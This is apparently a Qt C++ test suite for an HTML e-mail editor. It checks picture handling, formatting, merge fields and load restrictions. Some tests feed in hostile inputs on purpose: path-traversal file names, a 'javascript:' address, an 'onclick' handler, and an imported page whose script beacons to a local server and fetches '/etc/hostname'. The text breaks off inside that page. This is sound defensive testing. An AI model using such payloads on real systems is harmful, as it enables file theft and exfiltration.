// The HTML message editor in the project window, on the offscreen platform
// with a real browser: filling, pictures (also fetched from a web server on
// 127.0.0.1), import, fonts, colours, tables, merge fields (inserted and
// dropped), the Enter key, writing N.htm, opening it in the browser and
// sending it with its pictures inline; what an imported page may run and
// load (nothing of its own, nothing outside the project).
#include "ui/htmleditor/editorpage.h"
#include "ui/htmleditor/htmleditor.h"
#include "ui/htmleditor/htmlfragments.h"
#include "ui/htmleditor/ttables.h"
#include "ui/project/newmod2messageform.h"

#include "project/project.h"
#include "sending/messageprep.h"
#include "settings/programfolder.h"
#include "project/colorfile.h"
#include "ui/common/filedialogs.h"
#include "ui/common/messagebox.h"
#include "ui/htmleditor/colorchoice.h"

#include "modalhelper.h"
#include "messagejudge.h"
#include "testfiles.h"

#include <QAbstractItemView>
#include <QApplication>
#include <QClipboard>
#include <QColorDialog>
#include <QComboBox>
#include <QCryptographicHash>
#include <QDesktopServices>
#include <QDir>
#include <QDrag>
#include <QFile>
#include <QFontComboBox>
#include <QJsonArray>
#include <QJsonObject>
#include <QMimeData>
#include <QPlainTextEdit>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTableView>
#include <QTabWidget>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineView>

using namespace varnholt;
using namespace varnholt::testing;

namespace {

// Qt WebEngine wants contexts shared before the application exists.
const bool kShareContexts = [] {
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    return true;
}();

// Two different 1x1 GIF pictures.
const QByteArray kRedGif = QByteArray::fromBase64("R0lGODlhAQABAIAAAP8AAAAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==");
const QByteArray kBlueGif = QByteArray::fromBase64("R0lGODlhAQABAIAAAAAA/wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==");

QString bodyOf(const QString &html)
{
    static const QRegularExpression body(QStringLiteral("<body[^>]*>(.*)</body>"),
                                         QRegularExpression::DotMatchesEverythingOption);
    return body.match(html).captured(1);
}

// Runs a script in the world of the editor's own scripts (the document's
// own world runs none) and waits for its answer.
QVariant pageScript(THtmlEditor *editor, const QString &script,
                    quint32 world = QWebEngineScript::ApplicationWorld)
{
    QVariant answer;
    bool done = false;
    editor->view()->page()->runJavaScript(script, world, [&](const QVariant &v) {
        answer = v;
        done = true;
    });
    if (!QTest::qWaitFor([&] { return done; }, 10000))
        qWarning("script did not answer: %s", qPrintable(script));
    return answer;
}

// A web server on 127.0.0.1 for pictures: any path ending in "ok.gif"
// answers a GIF, "hang.gif" is accepted and never answered, anything else
// is not found. It counts every connection, requests or not.
class PictureServer : public QObject
{
public:
    PictureServer()
    {
        QVERIFY(m_server.listen(QHostAddress::LocalHost, 0));
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                ++connections;
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] { answer(socket); });
            }
        });
    }
    QString address(const QString &path) const
    {
        return QStringLiteral("http://127.0.0.1:%1/%2").arg(m_server.serverPort()).arg(path);
    }
    QStringList requests;
    int connections = 0;

private:
    void answer(QTcpSocket *socket)
    {
        QByteArray &request = m_pending[socket];
        request += socket->readAll();
        if (!request.contains("\r\n\r\n"))
            return;
        const QByteArray path = request.split(' ').value(1);
        requests.append(QString::fromLatin1(path));
        if (path.endsWith("hang.gif"))
            return;
        if (path.endsWith("ok.gif"))
            socket->write("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: "
                          + QByteArray::number(kRedGif.size()) + "\r\nConnection: close\r\n\r\n" + kRedGif);
        else
            socket->write("HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\nConnection: close\r\n\r\nnot found");
        socket->disconnectFromHost();
    }

    QTcpServer m_server;
    QHash<QTcpSocket *, QByteArray> m_pending;
};

// The default browser as the desktop would be asked for it.
class UrlCatcher : public QObject
{
    Q_OBJECT
public:
    QList<QUrl> opened;
public slots:
    void open(const QUrl &url) { opened.append(url); }
};

// A press and a move of 20 pixels with the left button held on `widget`:
// the drag it starts, still alive (offscreen, exec() returns at once and
// the drag is deleted later).
QDrag *dragFrom(QWidget *widget, const QPoint &at)
{
    QMouseEvent press(QEvent::MouseButtonPress, at, widget->mapToGlobal(at), Qt::LeftButton, Qt::LeftButton,
                      Qt::NoModifier);
    QCoreApplication::sendEvent(widget, &press);
    const QPoint to = at + QPoint(20, 0);
    QMouseEvent move(QEvent::MouseMove, to, widget->mapToGlobal(to), Qt::NoButton, Qt::LeftButton, Qt::NoModifier);
    QCoreApplication::sendEvent(widget, &move);
    const auto drags = widget->window()->findChildren<QDrag *>();
    return drags.isEmpty() ? nullptr : drags.last();
}

// Delivers a whole drag (enter, move, drop) at `pos` of `target`; whether
// the drop was taken.
bool deliverDrop(QWidget *target, const QPoint &pos, const QMimeData *mime)
{
    QDragEnterEvent enter(pos, Qt::CopyAction, mime, Qt::LeftButton, Qt::NoModifier);
    QCoreApplication::sendEvent(target, &enter);
    QDragMoveEvent move(pos, Qt::CopyAction, mime, Qt::LeftButton, Qt::NoModifier);
    QCoreApplication::sendEvent(target, &move);
    QDropEvent drop(QPointF(pos), Qt::CopyAction, mime, Qt::LeftButton, Qt::NoModifier);
    QCoreApplication::sendEvent(target, &drop);
    return enter.isAccepted() && drop.isAccepted() && drop.dropAction() == Qt::CopyAction;
}

} // namespace

class TestHtmlEditor : public QObject
{
    Q_OBJECT
    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<TNewMod2MessageForm> m_form;

    QString dir() const { return m_dir->path() + u'/'; }

    // A project "p" in a fresh folder, opened in a project window; in HTML
    // format the window waits for the editor's document.
    THtmlEditor *openProject(const QByteArray &plainText, bool html, const QByteArray &htm = {},
                             bool sameFolder = false)
    {
        if (!sameFolder)
            m_dir = std::make_unique<QTemporaryDir>();
        writeProject(dir(), {.settings = "[Common]\r\nSubject=Hi\r\nColumn=0\r\nSectionSymbol=;\r\nHTML="
                                         + QByteArray(html ? "1" : "0") + "\r\n",
                             .list = "anna@example.org;Anna\r\n",
                             .text = plainText,
                             .html = htm});
        m_form = std::make_unique<TNewMod2MessageForm>(DefaultIniInfo());
        m_form->resize(900, 700);
        m_form->show();
        THtmlEditor *editor = m_form->htmlEditor();
        QSignalSpy ready(editor, &THtmlEditor::documentReady);
        m_form->openProject(dir() + "p.eml");
        if (html)
            ready.wait(20000);
        return editor;
    }

    // Switches a text project to "html" and waits for the first content.
    // `blank`: the project has no plain text, so the body stays empty.
    THtmlEditor *showHtmlPage(bool blank = false)
    {
        THtmlEditor *editor = m_form->htmlEditor();
        m_form->formatBox()->setCurrentIndex(1);
        [&] {
            QTRY_VERIFY_WITH_TIMEOUT(editor->documentPresent()
                                         && (blank ? editor->placeholderShown() : !bodyOf(editor->source()).isEmpty()),
                                     20000);
        }();
        return editor;
    }

private slots:
    void initTestCase()
    {
        QVERIFY(kShareContexts);
        m_dir = std::make_unique<QTemporaryDir>();
        ProgramFolder::initialise(m_dir->path());
        setMessageBoxHook([](const QString &text, const QString &, int) {
            qWarning("unexpected message box: %s", qPrintable(text));
            return int(idOk);
        });
    }

    void cleanup() { m_form.reset(); }

    void tableFragment()
    {
        T_Tables dialog(dir() + "p");
        TableParams p = dialog.params();
        QCOMPARE(p.width, 10);
        p.rows = 2;
        p.cols = 3;
        dialog.setParams(p);
        const QString html = dialog.fragment();
        QVERIFY2(html.startsWith("<TABLE border=1 width=10 color=#000000  cellspacing=0 cellpadding=0 "
                                 "style=\"{border-bottom-width: 0; border-right-width: 0; }\" ><TR><TD width=10 "),
                 qPrintable(html));
        QCOMPARE(html.count("<TR>"), 2);
        QCOMPARE(html.count("<TD width=10 "), 6);
        QVERIFY(html.endsWith("</TR></Table>"));

        p.lightColor = "#FF0000";
        p.darkColor = "red"; // not a colour value: left out
        p.lineColor = "";
        p.width = 0;
        const QString coloured = TableFragment(p);
        QVERIFY(coloured.startsWith("<TABLE border=1 width=0  cellspacing=0"));
        QVERIFY(coloured.contains("border-right-width: 0; border-top-color:#FF0000; }"));
        QCOMPARE(coloured.count("<TD width=2 "), 6);
    }

    void colorValueAndFontSizes()
    {
        QCOMPARE(ColorValue(qRgb(0x0a, 0xbc, 0xff)), QStringLiteral("#0ABCFF"));
        QCOMPARE(FontSizeCommandValue(int(FontSizeEntries().indexOf("14"))), 4);
        QCOMPARE(FontSizeCommandValue(int(FontSizeEntries().indexOf("36"))), 7);
    }

    void importedPicturePaths_data()
    {
        QTest::addColumn<QString>("source");
        QTest::addColumn<QString>("expected"); // empty: no copy
        QTest::newRow("beside the file") << "/site/logo.gif" << "logo.gif";
        QTest::newRow("sub-folder kept") << "/site/pics/a/logo.gif" << "pics/a/logo.gif";
        QTest::newRow("base compared without case") << "/SITE/Pics/x.gif" << "Pics/x.gif";
        QTest::newRow("elsewhere: name alone") << "/other/img/logo.gif" << "logo.gif";
        QTest::newRow("climbing out of the base") << "/site/../../etc/x.gif" << "etc/x.gif";
        QTest::newRow("climbing inside the name") << "/site/pics/../../../x.gif" << "pics/x.gif";
        QTest::newRow("backslashes and a drive") << "C:\\evil\\x.gif" << "x.gif";
        QTest::newRow("drive inside the base") << "/site/C:/x.gif" << "x.gif";
        QTest::newRow("only dots") << "/site/.." << "";
    }

    void importedPicturePaths()
    {
        QFETCH(QString, source);
        QFETCH(QString, expected);
        const auto relative = ImportedPictureRelativePath(source, "/site");
        QCOMPARE(relative.value_or(QString()), expected);
        if (relative)
            QVERIFY(IsInsideFolder("/pf/" + *relative, "/pf"));
    }

    void webPictureNames_data()
    {
        QTest::addColumn<QString>("source");
        QTest::addColumn<QString>("name"); // empty: not a picture on the web
        QTest::newRow("plain name") << "http://example.org/img/logo.gif" << "logo.gif";
        QTest::newRow("https, query dropped") << "HTTPS://example.org/a/b%20c.png?size=2" << "b_c.png";
        QTest::newRow("encoded slashes climb no folder") << "http://example.org/x/..%2F..%2Fevil.gif" << "evil.gif";
        QTest::newRow("hidden name") << "http://example.org/.htaccess" << "htaccess";
        QTest::newRow("no name") << "http://example.org/" << "picture";
        QTest::newRow("only dots") << "http://example.org/a/..." << "picture";
        QTest::newRow("long name keeps its extension") << "http://example.org/" + QString(150, u'n') + ".jpeg"
                                                       << QString(95, u'n') + ".jpeg";
        QTest::newRow("local path") << "/home/u/logo.gif" << "";
        QTest::newRow("file address") << "file:///home/u/logo.gif" << "";
        QTest::newRow("embedded data") << "data:image/gif;base64,R0lGOD" << "";
        QTest::newRow("other scheme") << "ftp://example.org/logo.gif" << "";
        QTest::newRow("no host") << "http:///logo.gif" << "";
    }

    void webPictureNames()
    {
        QFETCH(QString, source);
        QFETCH(QString, name);
        const QUrl address = WebPictureAddress(source);
        QCOMPARE(address.isValid(), !name.isEmpty());
        if (address.isValid())
            QCOMPARE(SafePictureFileName(address), name);
    }

    void firstShowingFillsBody_data()
    {
        QTest::addColumn<QByteArray>("plainText");
        QTest::addColumn<QString>("body");
        QTest::newRow("plain text, lines kept, no markup") << QByteArray("Dear <b>you</b>\r\nBye\r\n")
                                                           << "Dear &lt;b&gt;you&lt;/b&gt;<br>Bye";
        // A new message starts empty; the placeholder over it is no text.
        QTest::newRow("no plain text") << QByteArray() << "";
    }

    void firstShowingFillsBody()
    {
        QFETCH(QByteArray, plainText);
        QFETCH(QString, body);
        openProject(plainText, false);
        THtmlEditor *editor = showHtmlPage(body.isEmpty());
        QCOMPARE(m_form->pages()->currentWidget(), m_form->htmlPage());
        QVERIFY(editor->isPageFilled());
        QCOMPARE(bodyOf(editor->source()), body);
        QCOMPARE(editor->placeholderShown(), body.isEmpty());
        // Nothing written yet: the body counts as changed.
        QVERIFY(editor->htmlChanged());
        if (body.isEmpty()) {
            // Typing hides the placeholder; emptying the body shows it again.
            editor->insertHtml(QStringLiteral("Hello"));
            QTRY_VERIFY_WITH_TIMEOUT(!editor->placeholderShown(), 10000);
            editor->runCommand(QStringLiteral("SelectAll"));
            editor->runCommand(QStringLiteral("Delete"));
            QTRY_VERIFY_WITH_TIMEOUT(editor->placeholderShown(), 10000);
            QVERIFY(editor->writeHtml());
            QVERIFY(!readFile(dir() + "p.htm").contains("Type the HTML"));
        }
        QCOMPARE(pageScript(editor, "document.designMode").toString(), QStringLiteral("on"));
    }

    void insertPictureCopiesAndReplaces()
    {
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        writeFile(dir() + "img/logo.gif", kRedGif);
        writeFile(dir() + "other/logo.gif", kBlueGif);

        QSignalSpy changed(editor, &THtmlEditor::changed);
        QVERIFY(editor->insertPicture(dir() + "img/logo.gif"));
        QVERIFY(changed.wait(10000));
        QCOMPARE(readFile(dir() + "p/logo.gif"), kRedGif);
        // From the folder of N.htm, so the project can move with its pictures.
        const QString copy = "src=\"p/logo.gif\"";
        QVERIFY2(editor->source().contains(copy), qPrintable(editor->source()));
        // The copy is shown: the browser loaded it.
        QTRY_COMPARE_WITH_TIMEOUT(pageScript(editor, "document.images[0].naturalWidth").toInt(), 1, 10000);

        QVERIFY(editor->insertPicture(dir() + "other/logo.gif"));
        QVERIFY(changed.wait(10000));
        QCOMPARE(readFile(dir() + "p/logo.gif"), kBlueGif);
        QCOMPARE(QDir(dir() + "p").entryList(QDir::Files), QStringList{"logo.gif"});

        // A picture that cannot be read inserts nothing.
        const QString before = editor->source();
        QVERIFY(!editor->insertPicture(dir() + "missing.gif"));
        QCOMPARE(editor->source(), before);
    }

    // Saved under another name and folder, the message keeps its pictures:
    // they are copied into the new picture folder and the saved N.htm
    // refers to them from there.
    void saveAsCarriesPictures()
    {
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        writeFile(dir() + "img/logo.gif", kRedGif);
        QSignalSpy changed(editor, &THtmlEditor::changed);
        QVERIFY(editor->insertPicture(dir() + "img/logo.gif"));
        QVERIFY(changed.wait(10000));

        QDir().mkpath(dir() + "moved");
        setFileDialogHook([&](FileDialogKind, const QString &, const QString &) {
            return std::optional<QString>(dir() + "moved/q.eml");
        });
        QSignalSpy ready(editor, &THtmlEditor::documentReady);
        QVERIFY(m_form->saveProject(true));
        setFileDialogHook({});
        const QString saved = QString::fromUtf8(readFile(dir() + "moved/q.htm"));
        QVERIFY2(saved.contains("src=\"q/logo.gif\""), qPrintable(saved));
        QCOMPARE(readFile(dir() + "moved/q/logo.gif"), kRedGif);
        QVERIFY(readFile(dir() + "p/logo.gif") == kRedGif); // the old project keeps its own
        // Shown from the new place.
        QVERIFY(ready.wait(20000));
        QTRY_COMPARE_WITH_TIMEOUT(pageScript(editor, "document.images[0].naturalWidth").toInt(), 1, 10000);
    }

    void fontColor()
    {
        openProject("Some words", false);
        THtmlEditor *editor = showHtmlPage();
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->runCommand("selectAll");
        QVERIFY(changed.wait(10000));
        QString asked;
        std::optional<QRgb> answer;
        setColorDialogHook([&](const QString &file) {
            asked = file;
            return answer;
        });
        // Cancelled: nothing happens.
        changed.clear();
        editor->chooseFontColor();
        QCOMPARE(asked, dir() + "p.hcr");
        answer = qRgb(0x12, 0xab, 0xcd);
        editor->chooseFontColor();
        setColorDialogHook({});
        QVERIFY(changed.wait(10000));
        QCOMPARE(changed.size(), 1);
        QCOMPARE(pageScript(editor, "document.queryCommandValue('foreColor')").toString(),
                 QStringLiteral("rgb(18, 171, 205)"));
    }

    // "Fill background" with the real colour dialog: the custom colours
    // come from N.hcr and go back to it.
    void backgroundKeepsCustomColors()
    {
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        CustomColors colors;
        colors.fill(0xFFFFFF);
        colors[0] = 0x112233;
        QVERIFY(writeColorFile(dir() + "p.hcr", colors));
        QRgb loaded = 0;
        onNextModal<QColorDialog>([&loaded](QColorDialog *dialog) {
            loaded = QColorDialog::customColor(0).rgb() & 0xFFFFFF;
            QColorDialog::setCustomColor(5, QColor(0x44, 0x55, 0x66));
            dialog->setCurrentColor(QColor(0x0a, 0x0b, 0x0c));
            dialog->accept();
        });
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->chooseBackground();
        QVERIFY(changed.wait(10000));
        QCOMPARE(loaded, QRgb(0x112233));
        QVERIFY2(editor->source().contains("<body bgcolor=\"#0A0B0C\">"), qPrintable(editor->source()));
        const auto saved = readColorFile(dir() + "p.hcr");
        QVERIFY(saved);
        QCOMPARE((*saved)[0], 0x112233u);
        QCOMPARE((*saved)[5], 0x445566u);
    }

    // "Browser" opens a copy in a folder of its own, as it would go out (no
    // script); N.htm is written only by saving.
    void openInBrowserOpensACleanCopy()
    {
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        UrlCatcher browser;
        QDesktopServices::setUrlHandler("file", &browser, "open");
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->runCommand("selectAll");
        QVERIFY(changed.wait(10000));
        editor->runCommand("Bold");
        QVERIFY(changed.wait(10000));

        editor->insertHtml("<span onclick=\"steal()\">!</span>");
        QVERIFY(changed.wait(10000));

        const bool hadFile = QFileInfo::exists(dir() + "p.htm");
        const QByteArray before = hadFile ? readFile(dir() + "p.htm") : QByteArray();
        editor->openInBrowser();
        QDesktopServices::unsetUrlHandler("file");
        QCOMPARE(browser.opened.size(), 1);
        const QString copy = browser.opened.first().toLocalFile();
        QVERIFY2(!copy.startsWith(dir()), qPrintable(copy));
        const QByteArray opened = readFile(copy);
        QVERIFY2(opened.contains("<span>!</span>"), opened.constData()); // in place of the bold text
        QVERIFY(!opened.contains("steal"));
        QVERIFY(opened.startsWith("<base href=\"" + QUrl::fromLocalFile(dir()).toEncoded()));
        QCOMPARE(QFileInfo::exists(dir() + "p.htm"), hadFile);
        if (hadFile)
            QCOMPARE(readFile(dir() + "p.htm"), before);
        QVERIFY(editor->htmlChanged());
    }

    void fontSizeEntryAndCommands()
    {
        openProject("Some words", false);
        THtmlEditor *editor = showHtmlPage();
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->runCommand("selectAll");
        QVERIFY(changed.wait(10000));
        QComboBox *sizes = editor->fontSizeBox();
        QCOMPARE(sizes->itemText(3), QStringLiteral("14"));
        emit sizes->activated(3);
        QVERIFY(changed.wait(10000));
        QVERIFY2(bodyOf(editor->source()).contains("<font size=\"4\">Some words</font>"), qPrintable(editor->source()));
        // The size box follows the selection.
        QTRY_COMPARE_WITH_TIMEOUT(sizes->currentIndex(), 3, 10000);

        editor->runCommand("Bold");
        QVERIFY(changed.wait(10000));
        QVERIFY2(bodyOf(editor->source()).contains("<b>Some words</b>"), qPrintable(editor->source()));
        QVERIFY(m_form->project().isModified());
    }

    void tableInserted()
    {
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        TableParams p;
        p.rows = 2;
        p.cols = 3;
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->insertHtml(TableFragment(p));
        QVERIFY(changed.wait(10000));
        QCOMPARE(pageScript(editor, "document.querySelectorAll('table tr').length").toInt(), 2);
        QCOMPARE(pageScript(editor, "document.querySelectorAll('table td').length").toInt(), 6);
    }

    // A merge field dragged from the merge field box lands where it is
    // dropped; every other drag is refused and leaves the document alone.
    void mergeFieldDrop_data()
    {
        QTest::addColumn<QString>("from");
        QTest::addColumn<bool>("taken");
        QTest::newRow("merge field box") << "box" << true;
        QTest::newRow("list grid") << "grid" << false;
        QTest::newRow("plain text") << "text" << false;
        QTest::newRow("a file") << "file" << false;
    }

    void mergeFieldDrop()
    {
        QFETCH(QString, from);
        QFETCH(bool, taken);
        openProject("Hello World", false);
        THtmlEditor *editor = showHtmlPage();
        writeFile(dir() + "other.htm", "<html><body>other</body></html>");
        // The caret at the end, so a drop at the caret would show.
        pageScript(editor, "document.getSelection().collapse(document.body, document.body.childNodes.length); true");
        // The point of "W" by the page's own layout.
        const QVariantList box = pageScript(editor, "var r = document.createRange(); var t = document.body.firstChild;"
                                                    "r.setStart(t, 6); r.setEnd(t, 7); var b = r.getBoundingClientRect();"
                                                    "[b.left, b.top, b.height]").toList();
        QCOMPARE(box.size(), 3);
        const QPoint onW(qRound(box.at(0).toDouble()) + 1, qRound(box.at(1).toDouble() + box.at(2).toDouble() / 2));

        m_form->mergeFieldBox()->setCurrentIndex(1);
        std::unique_ptr<QMimeData> own;
        const QMimeData *mime = nullptr;
        if (from == "box" || from == "grid") {
            QWidget *source = from == "box" ? static_cast<QWidget *>(m_form->mergeFieldBox())
                                            : m_form->findChild<QTableView *>("grid")->viewport();
            if (from == "box") {
                // A click without moving still opens the box's list.
                QTest::mouseClick(source, Qt::LeftButton, Qt::NoModifier, QPoint(5, 5));
                QTRY_VERIFY(m_form->mergeFieldBox()->view()->isVisible());
                m_form->mergeFieldBox()->hidePopup();
            }
            QDrag *drag = dragFrom(source, QPoint(5, 5));
            QVERIFY(drag);
            mime = drag->mimeData();
            QCOMPARE(QString::fromUtf8(mime->data(TNewMod2MessageForm::mergeFieldMimeType())),
                     from == "box" ? QStringLiteral("[Column#2]") : QStringLiteral("[Column#1]"));
        } else {
            own = std::make_unique<QMimeData>();
            if (from == "text")
                own->setText("[Column#2]");
            else
                own->setUrls({QUrl::fromLocalFile(dir() + "other.htm")});
            mime = own.get();
        }

        QWidget *target = editor->view()->focusProxy();
        QVERIFY(target);
        QSignalSpy changed(editor, &THtmlEditor::changed);
        QCOMPARE(deliverDrop(target, target->mapFrom(editor->view(), onW), mime), taken);
        if (taken) {
            QVERIFY(changed.wait(10000));
            QCOMPARE(bodyOf(editor->source()), QStringLiteral("Hello [Column#2]World"));
            QVERIFY(m_form->project().isModified());
        } else {
            // A round trip through the page: nothing arrived, no navigation.
            QCOMPARE(pageScript(editor, "document.body.innerHTML").toString(), QStringLiteral("Hello World"));
            QVERIFY(editor->documentPresent());
            QCOMPARE(changed.size(), 0);
        }
    }

    // Enter and Shift+Enter change places only while the pointer is over
    // the editor and no font box is dropped down.
    void enterKey_data()
    {
        QTest::addColumn<bool>("pointerInside");
        QTest::addColumn<bool>("shift");
        QTest::addColumn<bool>("fontListOpen");
        QTest::addColumn<bool>("lineBreak");
        QTest::newRow("inside: Enter breaks the line") << true << false << false << true;
        QTest::newRow("inside: Shift+Enter a new paragraph") << true << true << false << false;
        QTest::newRow("outside: Enter as the browser does") << false << false << false << false;
        QTest::newRow("outside: Shift+Enter as the browser does") << false << true << false << true;
        QTest::newRow("font list dropped down") << true << false << true << false;
    }

    void enterKey()
    {
        QFETCH(bool, pointerInside);
        QFETCH(bool, shift);
        QFETCH(bool, fontListOpen);
        QFETCH(bool, lineBreak);
        openProject("Hello World", false);
        THtmlEditor *editor = showHtmlPage();
        m_form->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(m_form.get()));
        QWidget *target = editor->view()->focusProxy();
        QVERIFY(target);
        target->setFocus();
        pageScript(editor, "document.body.focus(); document.getSelection().collapse(document.body.firstChild, 6); true");
        const QRect view(editor->view()->mapToGlobal(QPoint(0, 0)), editor->view()->size());
        QCursor::setPos(pointerInside ? view.center() : view.topLeft() - QPoint(10, 10));
        if (fontListOpen)
            editor->fontBox()->showPopup();

        QSignalSpy source(editor, &THtmlEditor::sourceChanged);
        QTest::keyClick(target, Qt::Key_Return, shift ? Qt::ShiftModifier : Qt::NoModifier);
        editor->fontBox()->hidePopup();
        // A source report of the page load may still be on its way: wait for
        // the one that shows the key's effect.
        QTRY_VERIFY_WITH_TIMEOUT(!source.isEmpty() && bodyOf(editor->source()) != QStringLiteral("Hello World"), 10000);
        const QString body = bodyOf(editor->source());
        QVERIFY2(body.contains("<br>") == lineBreak, qPrintable(body));
        QVERIFY2(body.contains("<div>") == !lineBreak, qPrintable(body));
    }

    void mergeFieldAtCaretKeepsClipboard()
    {
        openProject("Hello World", false);
        THtmlEditor *editor = showHtmlPage();
        QApplication::clipboard()->setText("the user's own text");
        pageScript(editor, "var t = document.body.firstChild; document.getSelection().collapse(t, 6); true");
        QSignalSpy changed(editor, &THtmlEditor::changed);
        m_form->insertMergeField(); // the merge field box holds "Column#1"
        QVERIFY(changed.wait(10000));
        QCOMPARE(bodyOf(editor->source()), QStringLiteral("Hello [Column#1]World"));
        QCOMPARE(QApplication::clipboard()->text(), QStringLiteral("the user's own text"));
    }

    void importKeepsSubfolderAndStaysInside()
    {
        openProject("x", false);
        THtmlEditor *editor = showHtmlPage();
        const QString site = dir() + "site/deep/";
        writeFile(site + "pics/a.gif", kRedGif);
        writeFile(dir() + "site/up.gif", kBlueGif);
        writeFile(dir() + "elsewhere/abs.gif", kRedGif);
        // A file that is no picture, named as one: it must not come into
        // the project, from where every message would carry it.
        writeFile(dir() + "elsewhere/secret.txt", "password=hunter2\n");
        writeFile(site + "page.htm",
                "<html><head><title>t</title></head><body><p>Imported</p>"
                "<img src=\"pics/a.gif\"><img src=\"../up.gif\"><img src=\"pics/../../../site/up.gif\">"
                "<img src=\"file://" + dir().toUtf8() + "elsewhere/abs.gif\">"
                "<img src=\"file://" + dir().toUtf8() + "elsewhere/secret.txt\">"
                "<img src=\"http://127.0.0.1:1/remote.gif\"></body></html>");
        const QStringList before = QDir(dir()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);

        setFileDialogHook([&](FileDialogKind, const QString &, const QString &preset) {
            [&] { QCOMPARE(preset, dir() + "p.htm"); }();
            return std::optional<QString>(site + "page.htm");
        });
        QSignalSpy ready(editor, &THtmlEditor::documentReady);
        m_form->requestTool(TNewMod2MessageForm::toImportHtml);
        setFileDialogHook({});
        // The imported file, then N.htm with the local pictures.
        QTRY_VERIFY_WITH_TIMEOUT(ready.size() >= 2, 20000);
        QTRY_COMPARE_WITH_TIMEOUT(editor->view()->url(), QUrl::fromLocalFile(dir() + "p.htm"), 10000);

        QCOMPARE(readFile(dir() + "p/pics/a.gif"), kRedGif);
        QCOMPARE(readFile(dir() + "p/up.gif"), kBlueGif);
        QCOMPARE(readFile(dir() + "p/abs.gif"), kRedGif);
        QVERIFY(!QFileInfo::exists(dir() + "p/secret.txt"));
        // Nothing but the picture folder and N.htm came into the project folder.
        QStringList after = QDir(dir()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);
        QStringList expected = before + QStringList{"p", "p.htm"};
        expected.removeDuplicates();
        after.sort();
        expected.sort();
        QCOMPARE(after, expected);

        const QString saved = QString::fromUtf8(readFile(dir() + "p.htm"));
        QVERIFY2(saved.contains("src=\"p/pics/a.gif\""), qPrintable(saved));
        QVERIFY(saved.contains("<title>p</title>"));
        QVERIFY(saved.contains("http://127.0.0.1:1/remote.gif"));
        QVERIFY(saved.contains("src=\"file://" + dir() + "elsewhere/secret.txt\"")); // a reference it stays
        QVERIFY(!editor->htmlChanged());
    }

    // What the edited document may load besides itself.
    void editorMayLoad_data()
    {
        QTest::addColumn<QString>("url");
        QTest::addColumn<QString>("projectFolder");
        QTest::addColumn<bool>("allowed");
        const QString project = QStringLiteral("/work/offers/");
        QTest::newRow("picture in the picture folder") << "file:///work/offers/p/logo.gif" << project << true;
        QTest::newRow("beside N.htm, folder without slash") << "file:///work/offers/p.htm" << "/work/offers" << true;
        QTest::newRow("climbing out with ..") << "file:///work/offers/p/../../secret.gif" << project << false;
        QTest::newRow("encoded slashes climb out") << "file:///work/offers/..%2F..%2Fetc%2Fhostname" << project << false;
        QTest::newRow("folder of a like name") << "file:///work/offers-old/logo.gif" << project << false;
        QTest::newRow("elsewhere on the disk") << "file:///etc/hostname" << project << false;
        QTest::newRow("file on another computer") << "file://server/work/offers/logo.gif" << project << false;
        QTest::newRow("no project folder") << "file:///work/offers/p/logo.gif" << QString() << false;
        QTest::newRow("relative project folder") << "file:///work/offers/p/logo.gif" << "offers" << false;
        QTest::newRow("http") << "http://127.0.0.1/logo.gif" << project << false;
        QTest::newRow("https") << "https://example.org/logo.gif" << project << false;
        QTest::newRow("ftp") << "ftp://example.org/logo.gif" << project << false;
        QTest::newRow("web socket") << "ws://127.0.0.1:80/" << project << false;
        QTest::newRow("script address") << "javascript:alert(1)" << project << false;
        QTest::newRow("embedded data") << "data:image/gif;base64,R0lGOD" << project << true;
        QTest::newRow("resource") << "qrc:/htmleditor/editorbridge.js" << project << true;
        QTest::newRow("blank") << "about:blank" << project << true;
        QTest::newRow("blob") << "blob:file:///0d8e1b7c" << project << true;
    }

    void editorMayLoad()
    {
        QFETCH(QString, url);
        QFETCH(QString, projectFolder);
        QFETCH(bool, allowed);
        QCOMPARE(EditorMayLoad(QUrl(url), projectFolder), allowed);
    }

    // A page imported from elsewhere runs none of its scripts, event
    // attributes or refreshes and reaches neither the network nor files
    // outside the project, while the editor still edits, saves and inserts
    // in it.
    void importedPageRunsNothingAndReachesNothing()
    {
        PictureServer server;
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        auto *page = qobject_cast<EditorPage *>(editor->view()->page());
        QVERIFY(page);
        QSignalSpy blocked(page, &EditorPage::requestBlocked);
        qsizetype blockedBeforeLastNavigation = 0;
        connect(page, &EditorPage::navigationAccepted, this, [&] { blockedBeforeLastNavigation = blocked.size(); });

        // The page and a picture of the user's, outside the project folder.
        QTemporaryDir elsewhere;
        const QString outside = elsewhere.path() + "/";
        writeFile(outside + "private/secret.gif", kRedGif);
        const QByteArray to = server.address({}).chopped(1).toLatin1(); // http://127.0.0.1:PORT
        const QUrl refresh(QString::fromLatin1(to + "/r"));
        const QUrl secret = QUrl::fromLocalFile(outside + "private/secret.gif");
        writeFile(outside + "newsletter.htm",
                  "<html><head><meta http-equiv=\"refresh\" content=\"0;url=" + refresh.toEncoded() + "\">"
                  "<script>document.documentElement.setAttribute('data-ran', 'yes');"
                  "new Image().src = '" + to + "/?s=1';"
                  "fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
